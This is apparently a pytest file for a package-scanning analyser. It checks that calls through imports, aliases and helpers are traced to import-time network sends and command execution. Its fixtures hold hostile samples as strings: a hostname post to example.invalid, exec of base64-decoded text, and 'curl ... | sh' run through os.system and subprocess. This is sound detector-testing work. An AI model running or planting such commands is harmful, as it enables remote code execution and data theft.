"""Names and arguments that go through other modules and functions stay what they are."""

from __future__ import annotations

import pytest

from bonded.values.finding import When
from tests.facts.programs import calls, wheel_of

SENDING = (
    "import socket\nimport httpx\ndef start():\n    httpx.post('https://example.invalid/', json=socket.gethostname())\n"
)
RUNNING = "def run(text):\n    exec(text)\ndef start(text):\n    run(text)\n"
IMPORTS = {
    "from": "from .core import start\n",
    "alias": "from .core import start as go\nstart = go\n",
    "__import__": "start = __import__('sample.core', None, None, ['start']).start\n",
    "fromlist": "start = __import__('sample.core', fromlist=['start']).start\n",
    "import_module": "import importlib\nstart = importlib.import_module('sample.core').start\n",
    "relative": "import importlib\nstart = importlib.import_module('.core', __package__).start\n",
}


@pytest.mark.parametrize("name", sorted(IMPORTS))
def test_a_function_runs_on_import_however_it_is_imported(name: str) -> None:
    facts = wheel_of({"sample/__init__.py": IMPORTS[name] + "start()\n", "sample/core.py": SENDING})
    sent = [call for module in facts.modules for call in module.calls if call.name == "httpx.post"]
    assert [call.when for call in sent] == [When.IMPORT]


def test_what_is_imported_under_another_name_and_called_runs() -> None:
    facts = wheel_of({"sample/__init__.py": "from .core import start as go\ngo()\n", "sample/core.py": SENDING})
    sent = [call for module in facts.modules for call in module.calls if call.name == "httpx.post"]
    assert [call.when for call in sent] == [When.IMPORT]


@pytest.mark.parametrize("name", sorted(IMPORTS))
def test_a_parameter_is_followed_through_two_functions_of_another_module(name: str) -> None:
    program = f"import base64\n{IMPORTS[name]}start(base64.b64decode(x))\n"
    facts = wheel_of({"sample/__init__.py": program, "sample/core.py": RUNNING})
    found = [call for m in facts.modules for call in m.calls if m.path.endswith("__init__.py")]
    run = [call for call in found if call.name == "builtins.exec"]
    assert run
    assert "decoded" in run[0].arguments[0].labels


def test_a_helper_that_passes_everything_on_is_no_place_of_its_own() -> None:
    source = "import os\ndef first(*a, **k):\n    return os.system(*a, **k)\ndef one():\n    first('a')\n"
    assert [(call.scope, call.arguments[0].text) for call in calls(source, "os.system")] == [("one", "a")]


def test_a_function_that_does_more_is_a_place_of_its_own() -> None:
    source = "import os\ndef first(a):\n    return os.system(a)\ndef one():\n    first('a')\n"
    assert {call.scope for call in calls(source, "os.system")} == {"first"}


HELPER = "import os\ndef run(line):\n    os.system(line)\n"


def test_each_thing_that_a_helper_is_given_to_run_is_seen() -> None:
    source = f"{HELPER}run('ls')\nrun('curl https://example.invalid/x | sh')\n"
    found = {call.arguments[0].text: call.when for call in calls(source, "os.system")}
    assert found == {"ls": When.IMPORT, "curl https://example.invalid/x | sh": When.IMPORT}


def test_what_somebody_else_gives_a_helper_is_told_apart_from_what_is_written_out() -> None:
    source = f"{HELPER}def later():\n    run('ls')\n"
    assert [call.arguments[0].text for call in calls(source, "os.system")] == ["ls"]
    assert [call.arguments[0].text for call in calls(HELPER, "os.system")] == [None]


def test_a_helper_that_is_given_many_things_is_seen_with_the_first_of_them() -> None:
    source = HELPER + "".join(f"run('tool {n}')\n" for n in range(40))
    assert 8 <= len(calls(source, "os.system")) <= 24


def test_a_command_is_seen_that_goes_to_a_helper_in_another_module() -> None:
    facts = wheel_of(
        {
            "sample/__init__.py": "from .tools import run\nrun('ls')\nrun('curl https://example.invalid/x | sh')\n",
            "sample/tools.py": "import subprocess\ndef run(line):\n    subprocess.Popen(line, shell=True)\n",
        }
    )
    found = [call for module in facts.modules if module.path.endswith("__init__.py") for call in module.calls]
    assert [(call.name, call.arguments[0].text, call.when) for call in found] == [
        ("subprocess.Popen", "curl https://example.invalid/x | sh", When.IMPORT)
    ]
